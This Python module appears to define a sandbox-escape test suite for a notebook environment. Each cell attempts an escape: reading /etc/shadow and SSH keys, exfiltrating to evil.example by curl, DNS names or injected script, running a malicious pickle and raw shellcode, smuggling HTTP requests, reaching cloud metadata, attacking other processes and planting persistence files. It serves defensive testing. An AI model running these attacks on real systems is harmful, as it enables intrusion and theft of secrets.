"""Attacks, each a cell of a notebook that prints `GOT THROUGH` when it succeeds, and what the receipt must hold.

Words in at signs are filled in by the driver with the canaries it put around the box.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

LIBC = "import ctypes, os, socket; libc = ctypes.CDLL(None, use_errno=True)\n"
TRY = "def attempt(what, action):\n    try:\n        print('GOT THROUGH', what, action())\n    except BaseException as e:\n        print('stopped', what, type(e).__name__, e)\n"


@dataclass(frozen=True)
class Attack:
    """One attack cell."""

    name: str
    source: str
    seen: Callable[[Any, int], bool]
    """(result, cell) to whether the attempt is in the receipt."""
    gap_at_b: str = ""
    """The known gap of level B, as the receipt names it: the attack may succeed there."""


def has(kind: str, target: str = "", verdict: str = "") -> Callable[[Any, int], bool]:
    """An event of that kind in the cell."""
    return lambda ran, cell: any(verdict in ("", e.verdict) for e in ran.events(kind, target, cell))


def all_of(*checks: Callable[[Any, int], bool]) -> Callable[[Any, int], bool]:
    return lambda ran, cell: all(check(ran, cell) for check in checks)


def nothing_to_see(ran: Any, cell: int) -> bool:
    """What was looked at was never there: there is no attempt to record."""
    return True


ATTACKS = [
    Attack(
        "private key, shadow, root's home",
        TRY
        + "for p in ('@CANARY@', '/etc/shadow', '/root/.bashrc', '/root/.ssh/id_rsa'):\n    attempt(p, lambda: open(p).read(50))",
        all_of(
            has("read", "id_rsa", "denied"),
            has("read", "/etc/shadow", "denied"),
            has("read", "/root/.ssh", "denied"),
        ),
    ),
    Attack(
        "tokens of the environment",
        "import os, glob\nneedle = 'CANARY' + '-ENV'\nhits = [k for k, v in os.environ.items() if needle in v]\n"
        "for p in glob.glob('/proc/[0-9]*/environ') + ['/proc/1/environ']:\n"
        "    try:\n        hits += [p] if needle in open(p, errors='replace').read() else []\n    except OSError: pass\n"
        "print('GOT THROUGH' if hits else 'stopped', hits)",
        has("read", "/proc/1/environ"),
    ),
    Attack(
        "an outside host, with and without the proxy",
        "!curl -sS -m 5 http://evil.example/ || true\n!curl -sS -m 5 --noproxy '*' http://evil.example/ || true\n"
        "!curl -sS -m 5 --noproxy '*' http://93.184.216.34/ && echo GOT THROUGH",
        all_of(has("host", "evil.example", "denied"), has("connect", "93.184.216.34:80", "denied")),
    ),
    Attack(
        "a port of this machine's loopback",
        TRY
        + "import os, socket\nproxy = (os.environ['HTTP_PROXY'].split('//')[1].split(':')[0], int(os.environ['HTTP_PROXY'].rsplit(':', 1)[1]))\n"
        "attempt('direct', lambda: socket.create_connection(('127.0.0.1', @PORT@), 3))\n"
        "for host in ('127.0.0.1', 'localhost', '0x7f000001', '[::1]', '127.1', '2130706433'):\n"
        "    def go():\n        s = socket.create_connection(proxy, 5)\n"
        "        s.sendall(f'GET http://{host}:@PORT@/ HTTP/1.1\\r\\nHost: {host}:@PORT@\\r\\n\\r\\n'.encode())\n"
        "        head = s.recv(4096).split(b'\\r\\n')[0]\n        if b'200' not in head: raise OSError(head)\n        return head\n"
        "    attempt(host, go)",
        all_of(
            has("host", "127.0.0.1:", "denied"),
            has("host", "localhost:", "denied"),
            has("host", "2130706433:", "denied"),
        ),
    ),
    Attack(
        "an abstract Unix socket of this machine",
        TRY + LIBC + "s = socket.socket(socket.AF_UNIX)\nattempt('abstract', lambda: s.connect('\\0@ABSTRACT@'))",
        has("connect", "@allmend-test", "denied"),
    ),
    Attack(
        "vsock, packet, alg, raw, bluetooth sockets",
        TRY + LIBC + "for family, kind in ((40, 1), (17, 3), (38, 5), (2, 3), (10, 3), (31, 3), (15, 3)):\n"
        "    attempt((family, kind), lambda: socket.socket(family, kind))",
        all_of(
            has("call", "socket", "denied"),
            lambda ran, cell: "family 40" in str(ran.events("call", "socket", cell)),
        ),
    ),
    Attack(
        "writing outside the working folder",
        TRY
        + "import os\nfor p in ('/usr/allmend-pwned', '/etc/allmend-pwned', '@HOST@/pwned', '@HOME@/pwned', '/proc/sys/kernel/core_pattern',\n"
        "          '/proc/sysrq-trigger', '/sys/kernel/uevent_helper'):\n    attempt(p, lambda: os.close(os.open(p, os.O_WRONLY | os.O_CREAT)))\n"
        "def lower():\n    with open('/proc/self/oom_score_adj', 'w') as f: f.write('-900')\nattempt('oom', lower)",
        all_of(
            has("write", "core_pattern", "denied"),
            has("write", "/usr/allmend-pwned", "denied"),
            has("write", "/host/pwned", "denied"),
        ),
    ),
    Attack(
        "a pickle that runs a program",
        "import pickle, os\nclass P:\n    def __reduce__(self): return (os.system, ('cat @CANARY@ && echo GOT THROUGH; touch @HOST@/pwned',))\n"
        "pickle.loads(pickle.dumps(P()))",
        has("program", "cat", "attempted"),
    ),
    Attack(
        "hurting and reading other processes",
        TRY
        + LIBC
        + "attempt('kill', lambda: os.kill(@VICTIM@, 9))\nattempt('supervisor', lambda: os.kill(@SUPERVISOR@, 15))\n"
        "def call(n, *a):\n    r = libc.syscall(n, *a)\n    if r < 0: raise OSError(ctypes.get_errno(), 'refused')\n    return r\n"
        "attempt('ptrace', lambda: call(101, 16, @VICTIM@, 0, 0))\nattempt('vm_readv', lambda: call(310, @VICTIM@, 0, 0, 0, 0, 0))\n"
        "attempt('pidfd_getfd', lambda: call(438, 0, 0, 0))",
        all_of(
            has("process", "signal KILL"),
            has("call", "ptrace", "denied"),
            has("call", "process_vm_readv", "denied"),
        ),
    ),
    Attack(
        "links and dots",
        TRY
        + "import os\nos.symlink('@CANARY@', 'innocent.txt')\nattempt('link', lambda: open('innocent.txt').read())\n"
        "attempt('dots', lambda: open('../../../../../../@CANARY@').read())\n"
        "attempt('hard link', lambda: os.link('/usr/bin/su', 'su'))\nattempt('hard link out', lambda: os.link('@CANARY@', 'key'))",
        has("read", "id_rsa", "denied"),
    ),
    Attack(
        "listing other processes",
        "import glob\nmine = []\nfor p in glob.glob('/proc/[0-9]*/cmdline'):\n    try:\n        t = open(p, 'rb').read()\n    except OSError: continue\n"
        "    if b'sleep\\x00600' in t: mine.append(p)\nprint('GOT THROUGH' if mine else 'stopped', mine)",
        nothing_to_see,
        gap_at_b="other processes of this machine can be listed",
    ),
    Attack(
        "more rights and namespaces",
        TRY
        + LIBC
        + "def call(n, *a):\n    r = libc.syscall(n, *a)\n    if r < 0: raise OSError(ctypes.get_errno(), 'refused')\n    return r\n"
        "attempt('setuid', lambda: os.setuid(0))\nattempt('mount', lambda: call(165, b'none', b'/tmp', b'tmpfs', 0, 0))\n"
        "attempt('unshare', lambda: call(272, 0x10000000))\nattempt('clone', lambda: call(56, 0x10000000 | 17, 0, 0, 0, 0))\n"
        "attempt('chroot', lambda: os.chroot('.'))\nattempt('setns', lambda: call(308, 0, 0))\nattempt('open_tree', lambda: call(428, -100, b'/', 1))\n"
        "attempt('mknod', lambda: os.mknod('disk', 0o60644, os.makedev(254, 0)))",
        all_of(
            has("call", "mount", "denied"),
            has("call", "unshare", "denied"),
            has("call", "clone", "denied"),
            has("call", "chroot", "denied"),
        ),
    ),
    Attack(
        "data in names, datagrams to a resolver",
        TRY + "import socket\nattempt('name', lambda: socket.getaddrinfo('c2VjcmV0.evil.example', 443))\n"
        "def send():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    return s.sendto(b'data', ('8.8.8.8', 53))\nattempt('datagram', send)",
        lambda ran, cell: (
            bool(ran.events("dns", "c2vjcmv0.evil.example", cell)) and bool(ran.events("connect", "8.8.8.8:53", cell))
            if ran.receipt.enforcement.level == "A"
            else bool(ran.events("call", "socket", cell))
        ),
    ),
    Attack(
        "calls by number",
        TRY
        + LIBC
        + "def call(n, *a):\n    r = libc.syscall(n, *a)\n    if r < 0: raise OSError(ctypes.get_errno(), 'refused')\n    return r\n"
        "for n in (425, 250, 248, 321, 323, 298, 304, 300, 175, 246, 435, 467, 600):\n    attempt(n, lambda: call(n, 0, 0, 0, 0, 0))\n"
        "code = '''import ctypes, mmap\\nm = mmap.mmap(-1, 4096, prot=7)\\nm.write(bytes.fromhex('b814000000cd80c3'))\\n'''\n"
        "code += '''print('GOT THROUGH', ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))())'''\n"
        "import subprocess, sys, platform\nif platform.machine() == 'x86_64':\n"
        "    r = subprocess.run([sys.executable, '-c', code], capture_output=True, text=True)\n    print('int 0x80:', r.returncode, r.stdout)",
        all_of(has("call", "io_uring_setup", "denied"), has("call", "keyctl", "denied"), has("call", "bpf", "denied")),
    ),
    Attack(
        "what starts later in the home folder",
        TRY
        + "import os, site, sys\nhome = os.path.expanduser('~')\nfor p in ('.bashrc', '.ipython/profile_default/startup/x.py', '.config/autostart/x.desktop'):\n"
        "    os.makedirs(os.path.dirname(os.path.join(home, p)), exist_ok=True)\n    open(os.path.join(home, p), 'w').write('pwned')\n"
        "import ipykernel\nattempt('.pth', lambda: open(os.path.join(os.path.dirname(os.path.dirname(ipykernel.__file__)), 'x.pth'), 'w'))\n"
        "attempt('real home', lambda: open('@HOME@/.bashrc', 'w'))",
        all_of(has("write", "x.pth", "denied"), has("write", "/home/.bashrc", "denied")),
    ),
    Attack(
        "files that other programs run later",
        "import os\nos.makedirs('outputs/.git/hooks', exist_ok=True)\n"
        "for n in ('.git/hooks/post-checkout', 'sitecustomize.py', 'conftest.py', '.envrc', 'Makefile', 'x.pth', 'evil.desktop', 'a.so', '.bashrc'):\n"
        "    open(f'outputs/{n}', 'w').write('pwned')\nos.symlink('/etc/passwd', 'outputs/link')\nos.mkfifo('outputs/pipe')\n"
        "open('outputs/fine.txt', 'w').write('fine'); os.chmod('outputs/fine.txt', 0o6777)",
        lambda ran, cell: (
            {f.path for f in ran.receipt.files if f.why_not and f.path.startswith("outputs/")}
            >= {
                "outputs/sitecustomize.py",
                "outputs/conftest.py",
                "outputs/.envrc",
                "outputs/Makefile",
                "outputs/link",
                "outputs/pipe",
            }
        ),
    ),
    Attack(
        "typing into the terminal",
        TRY
        + "import fcntl, os\ntry: m, s = os.openpty()\nexcept OSError: s = os.open('/dev/null', os.O_RDWR)\nattempt('TIOCSTI', lambda: fcntl.ioctl(s, 0x5412, b'x'))\nattempt('TIOCLINUX', lambda: fcntl.ioctl(s, 0x541C, b'\\x02'))",
        has("call", "ioctl", "denied"),
    ),
    Attack(
        "a foreign server name, metadata, port 22, a rebinding name",
        TRY
        + "import os, socket, ssl\nproxy = (os.environ['HTTP_PROXY'].split('//')[1].split(':')[0], int(os.environ['HTTP_PROXY'].rsplit(':', 1)[1]))\n"
        "def connect(target):\n    s = socket.create_connection(proxy, 5); s.settimeout(5)\n    s.sendall(f'CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n'.encode())\n"
        "    return s, s.recv(4096)\n"
        "def refused(target):\n    s, head = connect(target)\n    if b'200' not in head: raise OSError(head.split(b'\\r\\n')[0])\n    return head\n"
        "for t in ('169.254.169.254:80', 'allowed.example:22', '[::ffff:169.254.169.254]:443', 'metadata.google.internal:80'):\n    attempt(t, lambda: refused(t))\n"
        "def foreign(name):\n    s, head = connect('allowed.example:443')\n    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()\n    c = ssl.create_default_context(); c.check_hostname = False\n"
        "    c.verify_mode = ssl.CERT_NONE\n    w = c.wrap_bio(i, o, server_hostname=name)\n    try: w.do_handshake()\n    except ssl.SSLWantReadError: pass\n"
        "    s.sendall(o.read())\n    if s.recv(10) == b'': raise OSError('cut')\n    return 'answered'\n"
        "attempt('foreign', lambda: foreign('evil.example'))\nattempt('no name', lambda: foreign(None))\n"
        "def rebind():\n    s, head = connect('rebind.example:443')\n    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()\n    w = ssl.create_default_context().wrap_bio(i, o, server_hostname='rebind.example')\n"
        "    try: w.do_handshake()\n    except ssl.SSLWantReadError: pass\n    s.sendall(o.read())\n    if s.recv(10) == b'': raise OSError('cut')\nattempt('rebind', rebind)",
        all_of(
            has("host", "169.254.169.254", "denied"),
            has("host", "allowed.example:22", "denied"),
            has("host", "rebind.example", "denied"),
            lambda ran, cell: "TLS asked for 'evil.example'" in str(ran.events("host", "allowed.example:443", cell)),
        ),
    ),
    # -- beyond the first list ------------------------------------------------------------------------------------
    Attack(
        "through /proc/self",
        TRY
        + "import os\nfor p in ('/proc/self/root@CANARY@', '/proc/self/cwd/../../..@CANARY@', '/proc/thread-self/root/etc/shadow'):\n    attempt(p, lambda: open(p).read())\n"
        "fd = os.open('.', os.O_RDONLY)\nattempt('fd', lambda: open(f'/proc/self/fd/{fd}/../../../..@CANARY@').read())\n"
        "attempt('mem', lambda: open('/proc/1/mem', 'rb').read(1))\nattempt('kcore', lambda: open('/proc/kcore', 'rb').read(1))",
        all_of(has("read", "/proc/1/mem"), has("read", "/proc/kcore")),
    ),
    Attack(
        "a named Unix socket of this machine",
        TRY + "import socket\ns = socket.socket(socket.AF_UNIX)\nattempt('socket', lambda: s.connect('@SOCKET@'))\n"
        "for p in ('/var/run/docker.sock', '/run/user/1000/bus', '/run/dbus/system_bus_socket'):\n    attempt(p, lambda: socket.socket(socket.AF_UNIX).connect(p))",
        all_of(has("connect", "host.sock", "denied"), has("connect", "docker.sock", "denied")),
    ),
    Attack(
        "a page in the output",
        "from IPython.display import HTML, Javascript, display\n"
        "display(HTML('<script>fetch(\"http://evil.example/\")</script><img src=x onerror=alert(1)>'), Javascript('alert(1)'))\n"
        "print('<script>alert(2)</script><img src=x onerror=alert(3)>')",
        lambda ran, cell: (
            "<script" not in ran.html and "<img" not in ran.html and "Content-Security-Policy" in ran.html
        ),
    ),
    Attack(
        "requests that two readers read differently",
        "import os, socket\nproxy = (os.environ['HTTP_PROXY'].split('//')[1].split(':')[0], int(os.environ['HTTP_PROXY'].rsplit(':', 1)[1]))\n"
        "def send(data):\n    s = socket.create_connection(proxy, 5); s.settimeout(3); s.sendall(data)\n    out = b''\n"
        "    try:\n        while b := s.recv(4096): out += b\n    except OSError: pass\n    return out.split(b'\\r\\n')[0]\n"
        "H = b'Host: allowed.example\\r\\n'\n"
        "for bad in (b'POST http://allowed.example/s1 HTTP/1.1\\r\\n' + H + b'Content-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n',\n"
        "            b'GET http://allowed.example/s2 HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n',\n"
        "            b'GET http://allowed.example/s3 HTTP/1.1\\r\\n' + H + b'X: a\\r\\n folded\\r\\n\\r\\n',\n"
        "            b'GET http://allowed.example/s4 HTTP/1.1\\r\\n' + H + b'Transfer-Encoding : chunked\\r\\n\\r\\n',\n"
        "            b'GET http://allowed.example/s5 HTTP/1.1\\n' + b'Host: allowed.example\\n\\r\\n\\r\\n',\n"
        "            b'GET http://x@allowed.example/s6 HTTP/1.1\\r\\n' + H + b'\\r\\n',\n"
        "            b'GET http://allowed.example/s7 HTTP/1.1\\r\\n' + H + b'Upgrade: h2c\\r\\n\\r\\n',\n"
        "            b'GET http://evil.example#@allowed.example/s8 HTTP/1.1\\r\\n' + H + b'\\r\\n',\n"
        "            b'GET http://allowed.example/s9 HTTP/1.1\\r\\n' + H + b'Content-Length: 1\\r\\nContent-Length: 2\\r\\n\\r\\nab'):\n"
        "    answer = send(bad)\n    print('GOT THROUGH' if b'200' in answer else 'stopped', answer)\n"
        "print(send(b'GET http://allowed.example/first HTTP/1.1\\r\\n' + H + b'\\r\\nGET http://evil.example/second HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'))",
        lambda ran, cell: (
            "bad request" in str(ran.events("host", "", cell))
            and not any("/second" in text or "evil" in text or "/s" in text for text in ran.world["web"])
            and any("GET /first" in text for text in ran.world["web"])
        ),
    ),
    Attack(
        "names that are no names",
        "import socket, struct, os\n"
        "def ask(name_bytes, tail=b'\\x00\\x01\\x00\\x01', count=1):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n"
        "    s.sendto(struct.pack('!HHHHHH', 7, 256, count, 0, 0, 0) + name_bytes + tail, ('127.0.0.1', 53))\n"
        "    try: return s.recv(512)[3] & 15\n    except OSError as e: return e\n"
        "try:\n    print([ask(b) for b in (b'\\xc0\\x0c', b'\\x40' + b'a' * 64 + b'\\0', b'\\x3f' + b'a' * 10, b'\\x01a' * 200 + b'\\0', b'\\x05a.b\\x1b[\\0', b'')])\n"
        "    print(ask(b'\\x07allowed\\x07example\\0', count=5), ask(b'\\x04evil\\x07example\\0'))\n"
        "    print(socket.getaddrinfo('allowed.example', 80)[0][4][0])\nexcept OSError as e: print('stopped', e)",
        lambda ran, cell: (
            bool(ran.events("dns", "evil.example", cell)) and "127.77." in ran.text(cell)
            if ran.receipt.enforcement.level == "A"
            else bool(ran.events("call", "socket", cell))
        ),
    ),
    Attack(
        "messages made up in the kernel's name",
        "k = get_ipython().kernel\nimport json, zmq\nsock = k.iopub_socket\n"
        "deep = ('[' * 5000 + ']' * 5000).encode()\n"
        "send = getattr(sock, 'send_multipart')\n"
        "def forge(*parts):\n    key = k.session\n    parts = [p if isinstance(p, bytes) else json.dumps(p).encode() for p in parts]\n"
        "    send([b'x', b'<IDS|MSG>', key.sign(parts), *parts])\n"
        "parent = k.get_parent('shell')['header'] if hasattr(k, 'get_parent') else {}\n"
        "head = {'msg_id': 'z', 'msg_type': 'stream', 'session': 's', 'username': 'u', 'date': 'x', 'version': '5.3'}\n"
        "import datetime\nparent = json.loads(json.dumps(parent, default=str))\n"
        "for content in (deep, b'not json', 7, [], {'name': 5, 'text': []}, {'name': 'stdout', 'text': {'a': 1}}, None):\n    forge(head, parent, {}, content)\n"
        "for kind, content in (('display_data', {'data': 'x'}), ('display_data', {'data': {'text/plain': {'deep': 1}}}), ('error', {'traceback': 5}),\n"
        "                      ('error', {'ename': [], 'evalue': {}, 'traceback': [1, 2]}), ('status', {'execution_state': []}), ('clear_output', {'wait': 'x'}), (5, {})):\n"
        "    forge({**head, 'msg_type': kind}, parent, {}, content)\nprint('still here')",
        lambda ran, cell: "still here" in ran.text(cell) and ran.receipt.cells[cell].status == "ok",
    ),
    Attack(
        "descriptors left open",
        TRY
        + "import os\nfor fd in range(3, 200):\n    try: name = os.readlink(f'/proc/self/fd/{fd}')\n    except OSError: continue\n"
        "    if name.startswith('/') and not name.startswith(('/dev', '/usr', '/proc', '/env')) and 'site-packages' not in name and '/lib/python' not in name and 'ipython' not in name and 'etc/connection' not in name and '/home' not in name: print('GOT THROUGH', name)\n"
        "    if name.startswith('socket:'):\n        for data in (b'read\\n/made/up', b'\\xff\\xfe', b'x' * 4000, b'write\\n/etc/' + b'\\x1b[2J'):\n"
        "            try: os.write(fd, data)\n            except OSError: pass\n        break",
        nothing_to_see,
    ),
    Attack(
        "colours and controls in what the receipt shows",
        TRY + "attempt('control', lambda: open('/etc/\\x1b[2J\\x1b]0;x\\x07\\u202etxt').read())",
        lambda ran, cell: any(
            "\\x1b" in e.target and "\x1b" not in e.target and "\u202e" not in e.target
            for e in ran.events("read", "", cell)
        ),
    ),
    Attack(
        "lifting the filter",
        TRY
        + LIBC
        + "attempt('no_new_privs', lambda: libc.prctl(38, 0, 0, 0, 0) and (_ for _ in ()).throw(OSError('refused')))\n"
        "import subprocess\nr = subprocess.run(['/usr/bin/su', '-c', 'id'], capture_output=True, text=True, stdin=subprocess.DEVNULL)\n"
        "print('GOT THROUGH' if 'uid=0' in r.stdout else 'stopped', r)\n"
        "r = subprocess.run(['/bin/mount', '-t', 'tmpfs', 'x', '/tmp'], capture_output=True, text=True)\nprint('GOT THROUGH' if r.returncode == 0 else 'stopped', r.stderr)",
        has("program", "/usr/bin/su", "attempted"),
    ),
    Attack(
        "devices",
        TRY
        + "for p in ('/dev/mem', '/dev/kmsg', '/dev/vda', '/dev/sda', '/dev/fuse', '/dev/kvm', '/dev/net/tun', '/dev/input/event0'):\n    attempt(p, lambda: open(p, 'rb').read(1))",
        has("read", "/dev/mem", "denied"),
    ),
    Attack(
        "secrets and Drive that were not granted",
        TRY
        + "from google.colab import userdata, drive, auth, files\nattempt('secret', lambda: userdata.get('UNDECLARED_TOKEN'))\n"
        "attempt('drive', lambda: drive.mount('/content/drive'))\nattempt('account', lambda: auth.authenticate_user())\nattempt('download', lambda: files.download('/etc/passwd'))",
        all_of(
            has("secret", "UNDECLARED_TOKEN", "denied"),
            has("drive", "google-drive", "denied"),
            has("secret", "google-account", "denied"),
        ),
    ),
    Attack(
        "a link where the kernel's sockets are",
        TRY
        + "import os\nfolder = os.path.dirname(get_ipython().kernel.session and __import__('ipykernel.kernelapp').kernelapp.IPKernelApp.instance().ip)\n"
        "attempt('link', lambda: os.symlink('/run/docker.sock', folder + '/k-9'))\nattempt('file', lambda: open(folder + '/x', 'w'))\n"
        "attempt('fifo', lambda: os.mkfifo(folder + '/f'))",
        nothing_to_see,
    ),
    Attack(
        "connecting without connect",
        TRY
        + LIBC
        + "s = socket.socket()\nattempt('fast open', lambda: s.sendto(b'x', 0x20000000, ('93.184.216.34', 443)))",
        nothing_to_see,
    ),
    Attack(
        "metadata without the proxy",
        TRY
        + "import socket\nfor host in ('169.254.169.254', '100.100.100.200', '10.0.0.1'):\n    attempt(host, lambda: socket.create_connection((host, 80), 3))\n"
        "attempt('v6', lambda: socket.create_connection(('fd00:ec2::254', 80), 3))",
        all_of(has("connect", "169.254.169.254:80", "denied"), has("connect", "fd00:ec2::254", "denied")),
    ),
    Attack(
        "processes of the same person, by their number",
        TRY
        + LIBC
        + "import resource\ndef call(n, *a):\n    r = libc.syscall(n, *a)\n    if r < 0: raise OSError(ctypes.get_errno(), 'refused')\n    return r\n"
        "for pid in (@SUPERVISOR@, @VICTIM@):\n"
        "    attempt('limit', lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)))\n"
        "    attempt('priority', lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))\n"
        "    attempt('processors', lambda: os.sched_setaffinity(pid, {0}))\n"
        "    attempt('input and output', lambda: call(251, 1, pid, 3 << 13))\n"
        "    attempt('pages', lambda: call(279, pid, 0, 0, 0, 0, 0))\n"
        "os.sched_setaffinity(0, os.sched_getaffinity(0)); os.setpriority(os.PRIO_PROCESS, os.getpid(), os.getpriority(os.PRIO_PROCESS, 0))\n"
        "resource.prlimit(os.getpid(), resource.RLIMIT_CORE); import threading\n"
        "os.sched_setaffinity(threading.get_native_id(), os.sched_getaffinity(0)); print('own ones work')",
        lambda ran, cell: (
            "own ones work" in ran.text(cell)
            and (ran.receipt.enforcement.level == "A" or bool(ran.events("call", "prlimit64", cell)))
        ),
    ),
    Attack(
        "modes, times and attributes of other files",
        TRY + "import os, ipykernel\nlink = 'to-the-key'\nos.symlink('@CANARY@', link)\n"
        "for path in ('@CANARY@', '@HOST@', '@HOME@', ipykernel.__file__, link):\n"
        "    attempt('mode', lambda: os.chmod(path, 0o777))\n    attempt('time', lambda: os.utime(path, (1, 1)))\n"
        "    attempt('owner', lambda: os.chown(path, os.getuid(), os.getgid()))\n"
        "    attempt('attribute', lambda: os.setxattr(path, 'user.allmend', b'1'))\n"
        "for change in (lambda fd: os.fchmod(fd, 0o666), lambda fd: os.utime(fd, (1, 1))):\n"
        "    attempt('by descriptor', lambda: change(os.open(ipykernel.__file__, os.O_RDONLY)))\n"
        "open('own.txt', 'w').write('x'); os.chmod('own.txt', 0o4640); os.utime('own.txt', ns=(5, 7 * 10**9)); os.makedirs('f', exist_ok=True)\n"
        "here = os.open('f', os.O_RDONLY); os.close(os.open('in.txt', os.O_CREAT, dir_fd=here)); os.chmod('in.txt', 0o600, dir_fd=here)\n"
        "with open('own.txt') as f: os.utime(f.fileno()); os.fchmod(f.fileno(), 0o640)\n"
        "import shutil; shutil.copy2('own.txt', 'copy.txt'); print('own ones work', oct(os.stat('copy.txt').st_mode & 0o777), oct(os.stat('f/in.txt').st_mode & 0o777))",
        lambda ran, cell: "own ones work 0o640 0o600" in ran.text(cell) and bool(ran.events("write", "id_rsa", cell)),
    ),
    Attack(
        "memory and queues that other programs share",
        LIBC + "def call(n, *a):\n    r = libc.syscall(n, *a)\n    return r if r >= 0 else -ctypes.get_errno()\n"
        "import platform\nx86 = platform.machine() == 'x86_64'\n"
        "theirs = call(29 if x86 else 194, @SHARED@, 4096, 0o600)\n"
        "print('GOT THROUGH' if theirs >= 0 else 'stopped', theirs)\n"
        "print([call(n, @SHARED@, 0, 0, 0) for n in ((68, 64, 240) if x86 else (186, 190, 180))])",
        lambda ran, cell: ran.receipt.enforcement.level == "A" or bool(ran.events("call", "shmget", cell)),
    ),
    Attack(
        "watching other folders",
        LIBC
        + "fd = libc.inotify_init()\nfor path in (b'@HOST@', b'@HOME@'):\n    print('GOT THROUGH' if libc.inotify_add_watch(fd, path, 0xFFF) >= 0 else 'stopped', path)",
        lambda ran, cell: ran.receipt.enforcement.level == "A" or bool(ran.events("call", "inotify_add_watch", cell)),
    ),
    Attack(
        "names of outputs that are no text",
        "import os\nos.makedirs('outputs', exist_ok=True)\nfor name in (b'\\xff\\xfe.txt', b'\\xed\\xa0\\x80', b'a\\nb', b'\\x1b[2J', b'n' * 255, b'..\\\\x'):\n"
        "    open(b'outputs/' + name, 'w').write('x')",
        lambda ran, cell: "control characters" in str([f.why_not for f in ran.receipt.files]),
    ),
    Attack(
        "halves of characters in messages and errors",
        "import json\nk = get_ipython().kernel\nparent = json.loads(json.dumps(k.get_parent('shell')['header'], default=str))\n"
        "def forge(kind, content):\n    head = {'msg_id': 'z', 'msg_type': kind, 'session': 's', 'username': 'u', 'date': 'x', 'version': '5.3'}\n"
        "    parts = [json.dumps(p).encode() for p in (head, parent, {}, content)]\n"
        "    k.iopub_socket.send_multipart([b'x', b'<IDS|MSG>', k.session.sign(parts), *parts])\n"
        "half = json.loads('\"\\\\ud800 \\\\u001b[2J\"')\n"
        "forge('stream', {'name': 'stdout', 'text': half}); forge('error', {'ename': half, 'evalue': half, 'traceback': [half]})\n"
        "forge('display_data', {'data': {'text/plain': half, half: half}, 'metadata': {}})\nprint('still here')",
        lambda ran, cell: "still here" in ran.text(cell) and ran.receipt.cells[cell].status == "ok",
    ),
    Attack(
        "a program that is no file",
        "import os, subprocess\nfd = os.memfd_create('x')\nos.write(fd, open('/usr/bin/env', 'rb').read())\n"
        "r = subprocess.run([f'/proc/self/fd/{fd}', '-i', '/bin/cat', '@CANARY@', '/etc/shadow'], pass_fds=[fd], capture_output=True, text=True)\n"
        "print('GOT THROUGH' if 'CANARY' in r.stdout or 'root:' in r.stdout else 'stopped', r.returncode)",
        has("program", "/proc/self/fd/", "attempted"),
    ),
]
